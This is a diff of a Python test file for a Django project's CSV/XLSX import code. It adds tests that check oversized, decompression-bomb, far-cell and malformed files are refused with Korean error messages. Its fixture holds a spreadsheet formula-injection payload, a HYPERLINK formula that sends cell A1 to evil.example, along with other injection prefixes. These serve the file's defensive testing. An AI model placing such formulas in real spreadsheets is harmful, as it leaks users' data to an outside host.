@@ -6,9 +6,11 @@ import io
 from decimal import Decimal
 
 import pytest
+from django.utils import translation
 from openpyxl import load_workbook
 
-from hyeopchi.core.tabular import read_table, write_csv, write_xlsx
+from hyeopchi.core.tabular import Limits, TableError, read_table, write_csv, write_xlsx
+from tests.support.spreadsheets import inflating, one_far_cell
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 ROW = [HOSTILE, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "보통 제목", -5, Decimal("1.50")]
@@ -53,3 +55,46 @@ def test_a_file_written_here_reads_back_to_the_original_text(name):
     table = read_table(write(header, [[HOSTILE, "-동구"]]), name)
 
     assert table.rows == [(2, {"제목": HOSTILE, "기관": "-동구"})]
+
+
+def refusal(data: bytes, name: str, limits: Limits | None = None) -> str:
+    with translation.override("ko"), pytest.raises(TableError) as raised:
+        read_table(data, name, limits)
+    return str(raised.value.message)
+
+
+def test_a_sheet_declaring_the_last_cell_is_refused_before_it_is_read():
+    assert refusal(one_far_cell(), "t.xlsx") == "파일이 64열을 넘습니다."
+
+
+def test_a_file_that_inflates_far_beyond_its_size_is_refused_unread():
+    assert refusal(inflating(2_000_000), "t.xlsx") == (
+        "파일의 압축을 풀면 2MB로, 이 크기의 스프레드시트가 담을 수 있는 양보다 많습니다. "
+        "읽지 않았습니다."
+    )
+
+
+def test_a_file_over_the_byte_limit_is_refused():
+    assert refusal(b"a\n" * 1_100_000, "t.csv", Limits(bytes=2 * 2**20)) == "파일이 2MB보다 큽니다."
+
+
+def test_rows_beyond_the_limit_are_refused():
+    assert refusal(b"a\n1\n2\n3\n", "t.csv", Limits(rows=2)) == "파일이 2행을 넘습니다."
+
+
+def test_an_unclosed_quotation_mark_is_refused_naming_its_row():
+    data = '제목,설명\n첫 과제,"설명이 닫히지 않음\n둘째 과제,설명\n셋째 과제,설명\n'.encode()
+
+    assert refusal(data, "t.csv") == "2행: 닫히지 않은 따옴표가 있습니다. 아무것도 읽지 않았습니다."
+
+
+def test_a_cell_over_the_csv_field_limit_is_a_named_refusal():
+    data = b"a,b\nx," + b"y" * 200_000 + b"\n"
+
+    assert refusal(data, "t.csv") == "2행: 100,000자보다 긴 칸이 있습니다."
+
+
+def test_the_settings_limits_override_the_defaults(settings):
+    settings.IMPORT_LIMITS = {"rows": 1}
+
+    assert refusal(b"a\n1\n2\n", "t.csv") == "파일이 1행을 넘습니다."
